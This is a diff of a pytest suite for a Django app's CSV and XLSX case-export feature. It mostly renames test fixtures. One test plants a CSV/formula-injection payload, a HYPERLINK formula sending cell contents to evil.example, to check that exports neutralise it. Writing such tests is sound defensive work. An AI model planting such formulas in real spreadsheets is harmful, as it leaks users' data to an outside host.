@@ -14,9 +14,8 @@ from wagtail.users.models import UserProfile
 
 from forms_app.models import Case, IntakeFormField
 from forms_app.reports import export, spreadsheets
+from tests.builders import copy_case, file_case, intake_form, set_answer
 from tests.helpers import soup
-
-from .builders import copy_case, file_case, form_page, set_answer
 
 pytestmark = pytest.mark.django_db
 
@@ -55,7 +54,7 @@ def xlsx_rows(body):
 
 
 def source_keys(case_type):
-    page = form_page(case_type, "en")
+    page = intake_form(case_type, "en")
     return list(IntakeFormField.objects.filter(page=page).order_by("sort_order").values_list("clean_name", flat=True))
 
 
@@ -64,9 +63,9 @@ def by_reference(rows, header):
     return {row[index]: dict(zip(header, row, strict=False)) for row in rows}
 
 
-def test_csv_has_a_column_per_question_in_form_order_and_a_row_per_case(client_for, case_manager, filed_cases):
+def test_csv_has_a_column_per_question_in_form_order_and_a_row_per_case(login, case_manager, filed_cases):
     """CSV: metadata columns, then every question key of the exported forms in form order, one row per case."""
-    response, body = download(client_for(case_manager), "csv")
+    response, body = download(login(case_manager), "csv")
     assert response.status_code == 200
     header, *rows = csv_rows(body)
     assert header[: len(METADATA)] == METADATA
@@ -87,11 +86,11 @@ def test_csv_has_a_column_per_question_in_form_order_and_a_row_per_case(client_f
     assert table[english.reference]["evidence_count"] == "0"
 
 
-def test_csv_flattens_lists_dates_and_composite_answers(client_for, case_manager, filed_cases):
+def test_csv_flattens_lists_dates_and_composite_answers(login, case_manager, filed_cases):
     """Lists are joined with "; ", date ranges are ISO intervals, composite answers read "key: value"."""
     case = filed_cases[0]
     answers = case.answers
-    response, body = download(client_for(case_manager), "csv", ids=str(case.pk))
+    response, body = download(login(case_manager), "csv", ids=str(case.pk))
     header, row = csv_rows(body)
     values = dict(zip(header, row, strict=True))
     for key, question in case.questions_as_seen.items():
@@ -108,9 +107,9 @@ def test_csv_flattens_lists_dates_and_composite_answers(client_for, case_manager
             assert values[key] == "yes"
 
 
-def test_xlsx_holds_the_same_cells_as_the_csv_with_a_row_of_question_labels(client_for, case_manager, filed_cases):
+def test_xlsx_holds_the_same_cells_as_the_csv_with_a_row_of_question_labels(login, case_manager, filed_cases):
     """XLSX: keys, then the questions' wording, then exactly the CSV's rows (numbers as numbers)."""
-    client = client_for(case_manager)
+    client = login(case_manager)
     _response, csv_body = download(client, "csv")
     response, body = download(client, "xlsx")
     assert response.status_code == 200
@@ -120,33 +119,33 @@ def test_xlsx_holds_the_same_cells_as_the_csv_with_a_row_of_question_labels(clie
     assert list(keys) == csv_header
     labels = dict(zip(keys, labels, strict=True))
     assert labels["reference"] == "Reference"
-    english_field = IntakeFormField.objects.get(page=form_page("account_closure", "en"), clean_name="what_happened")
+    english_field = IntakeFormField.objects.get(page=intake_form("account_closure", "en"), clean_name="what_happened")
     assert labels["what_happened"] == english_field.label
     assert [[str(value) for value in row] for row in rows] == csv_data
     evidence_column = keys.index("evidence_count")
     assert all(isinstance(row[evidence_column], int) for row in rows)
 
 
-def test_xlsx_question_labels_follow_the_exporters_language(client_for, case_manager, filed_cases):
+def test_xlsx_question_labels_follow_the_exporters_language(login, case_manager, filed_cases):
     """A Chinese-speaking case manager gets the questions' Chinese wording in the label row."""
     profile = UserProfile.get_for_user(case_manager)
     profile.preferred_language = "zh-hans"
     profile.save()
-    response, body = download(client_for(case_manager), "xlsx")
+    response, body = download(login(case_manager), "xlsx")
     keys, labels, *_rows = xlsx_rows(body)
-    chinese = IntakeFormField.objects.get(page=form_page("account_closure", "zh-hans"), clean_name="what_happened")
+    chinese = IntakeFormField.objects.get(page=intake_form("account_closure", "zh-hans"), clean_name="what_happened")
     assert dict(zip(keys, labels, strict=True))["what_happened"] == chinese.label
 
 
 @pytest.mark.parametrize("export_format", ["csv", "xlsx"])
 @pytest.mark.parametrize("start", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
-def test_formula_like_answers_are_neutralised(client_for, case_manager, filed_cases, export_format, start):
+def test_formula_like_answers_are_neutralised(login, case_manager, filed_cases, export_format, start):
     """Any cell starting with = + - @ tab or CR is prefixed with an apostrophe, so it is never a formula."""
     case = filed_cases[0]
     payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
     set_answer(case, "what_happened", payload)
     set_answer(case, "wechat_id", start + "1+1")
-    response, body = download(client_for(case_manager), export_format, ids=str(case.pk))
+    response, body = download(login(case_manager), export_format, ids=str(case.pk))
     if export_format == "csv":
         header, row = csv_rows(body)
     else:
@@ -162,11 +161,11 @@ def test_formula_like_answers_are_neutralised(client_for, case_manager, filed_ca
 
 
 @pytest.mark.parametrize("export_format", ["csv", "xlsx"])
-def test_characters_illegal_in_xml_do_not_break_the_file(client_for, case_manager, filed_cases, export_format):
+def test_characters_illegal_in_xml_do_not_break_the_file(login, case_manager, filed_cases, export_format):
     """Control characters in an answer are dropped from XLSX, and the workbook still opens."""
     case = filed_cases[0]
     set_answer(case, "what_happened", "before\x00\x01\x0b\x1fafter <b>&amp;</b>")
-    _response, body = download(client_for(case_manager), export_format, ids=str(case.pk))
+    _response, body = download(login(case_manager), export_format, ids=str(case.pk))
     if export_format == "xlsx":
         header, _labels, row = xlsx_rows(body)
         assert dict(zip(header, row, strict=True))["what_happened"] == "beforeafter <b>&amp;</b>"
@@ -176,21 +175,21 @@ def test_characters_illegal_in_xml_do_not_break_the_file(client_for, case_manage
 
 
 @pytest.mark.parametrize("export_format", ["csv", "xlsx"])
-def test_only_case_managers_may_export(client, client_for, case_manager, reviewer, communications, export_format):
+def test_only_case_managers_may_export(client, login, case_manager, reviewer, communications, export_format):
     """Reviewers (view only) and Communications staff get 403; anonymous visitors go to the login page."""
     file_case()
     url = reverse(f"forms_app_review:export_{export_format}")
     assert client.get(url).status_code == 302
-    assert client_for(reviewer).get(url).status_code == 403
-    assert client_for(communications).get(url).status_code == 403
-    assert client_for(case_manager).get(url).status_code == 200
+    assert login(reviewer).get(url).status_code == 403
+    assert login(communications).get(url).status_code == 403
+    assert login(case_manager).get(url).status_code == 200
     assert not ModelLogEntry.objects.filter(action=export.EXPORT_ACTION, user__in=[reviewer, communications]).exists()
 
 
 @pytest.mark.parametrize("export_format", ["csv", "xlsx"])
-def test_every_exported_case_is_written_to_the_audit_log(client_for, case_manager, filed_cases, export_format):
+def test_every_exported_case_is_written_to_the_audit_log(login, case_manager, filed_cases, export_format):
     """Each exported case gets one log entry naming the exporter, the format and the size of the export."""
-    response, _body = download(client_for(case_manager), export_format, case_type="account_closure")
+    response, _body = download(login(case_manager), export_format, case_type="account_closure")
     entries = ModelLogEntry.objects.filter(action="forms_app.case.export")
     assert sorted(entries.values_list("object_id", flat=True)) == sorted(str(case.pk) for case in filed_cases[:2])
     assert {entry.user_id for entry in entries} == {case_manager.pk}
@@ -199,10 +198,10 @@ def test_every_exported_case_is_written_to_the_audit_log(client_for, case_manage
     assert len({entry.uuid for entry in entries}) == 1
 
 
-def test_response_is_an_uncached_attachment_named_by_date(client_for, case_manager, filed_cases):
+def test_response_is_an_uncached_attachment_named_by_date(login, case_manager, filed_cases):
     """The download is a streamed attachment, never cached, never sniffed."""
     for export_format in ("csv", "xlsx"):
-        response, _body = download(client_for(case_manager), export_format)
+        response, _body = download(login(case_manager), export_format)
         assert response.streaming
         assert response["Content-Disposition"].startswith('attachment; filename="cases-')
         assert response["Content-Disposition"].endswith(f'.{export_format}"')
@@ -211,9 +210,9 @@ def test_response_is_an_uncached_attachment_named_by_date(client_for, case_manag
 
 
 @pytest.mark.parametrize("export_format", ["csv", "xlsx"])
-def test_query_count_does_not_grow_with_the_number_of_cases(client_for, case_manager, export_format):
+def test_query_count_does_not_grow_with_the_number_of_cases(login, case_manager, export_format):
     """Exporting 50 cases takes as many queries as exporting 5 (cases are read in chunks, not one by one)."""
-    client = client_for(case_manager)
+    client = login(case_manager)
     original = file_case()
     client.get(reverse(f"forms_app_review:export_{export_format}"))  # warm the session and caches
 
@@ -231,9 +230,9 @@ def test_query_count_does_not_grow_with_the_number_of_cases(client_for, case_man
     assert many == few
 
 
-def test_the_queues_filters_and_ticked_cases_choose_what_is_exported(client_for, case_manager, filed_cases):
+def test_the_queues_filters_and_ticked_cases_choose_what_is_exported(login, case_manager, filed_cases):
     """case_type, language, status, dates and ids narrow the export exactly as in the queue."""
-    client = client_for(case_manager)
+    client = login(case_manager)
     english, chinese, investor = filed_cases
 
     def references(**params):
@@ -253,9 +252,9 @@ def test_the_queues_filters_and_ticked_cases_choose_what_is_exported(client_for,
     assert references(submitted_from=today, status="new") == {c.reference for c in filed_cases}
 
 
-def test_the_queues_export_page_links_to_files_of_exactly_its_selection(client_for, case_manager, filed_cases):
+def test_the_queues_export_page_links_to_files_of_exactly_its_selection(login, case_manager, filed_cases):
     """From the queue's Export page (its filters, or ticked id=s) both download links export that selection."""
-    client = client_for(case_manager)
+    client = login(case_manager)
     english, chinese, investor = filed_cases
 
     def exported(selection):
@@ -277,9 +276,9 @@ def test_the_queues_export_page_links_to_files_of_exactly_its_selection(client_f
     assert exported({"id": [english.pk, investor.pk]}) == {english.reference, investor.reference}
 
 
-def test_an_unknown_or_invalid_filter_is_refused_rather_than_ignored(client_for, case_manager, filed_cases):
+def test_an_unknown_or_invalid_filter_is_refused_rather_than_ignored(login, case_manager, filed_cases):
     """A filter the export cannot apply gives 400, never a larger export than was asked for."""
-    client = client_for(case_manager)
+    client = login(case_manager)
     assert download(client, "csv", colour="blue")[0].status_code == 400
     assert download(client, "csv", case_type="nonsense")[0].status_code == 400
     assert download(client, "xlsx", ids="1,two")[0].status_code == 400
@@ -288,11 +287,11 @@ def test_an_unknown_or_invalid_filter_is_refused_rather_than_ignored(client_for,
 
 
 @pytest.mark.parametrize("export_format", ["csv", "xlsx"])
-def test_memory_does_not_grow_with_the_number_of_cases(client_for, case_manager, monkeypatch, export_format):
+def test_memory_does_not_grow_with_the_number_of_cases(login, case_manager, monkeypatch, export_format):
     """Streaming 200 cases needs no more memory than streaming 20: only one chunk is held at a time."""
     monkeypatch.setattr(export, "CHUNK_SIZE", 10)
     monkeypatch.setattr(spreadsheets, "FLUSH_SIZE", 2048)
-    client = client_for(case_manager)
+    client = login(case_manager)
     original = file_case()
 
     def peak_while_streaming():
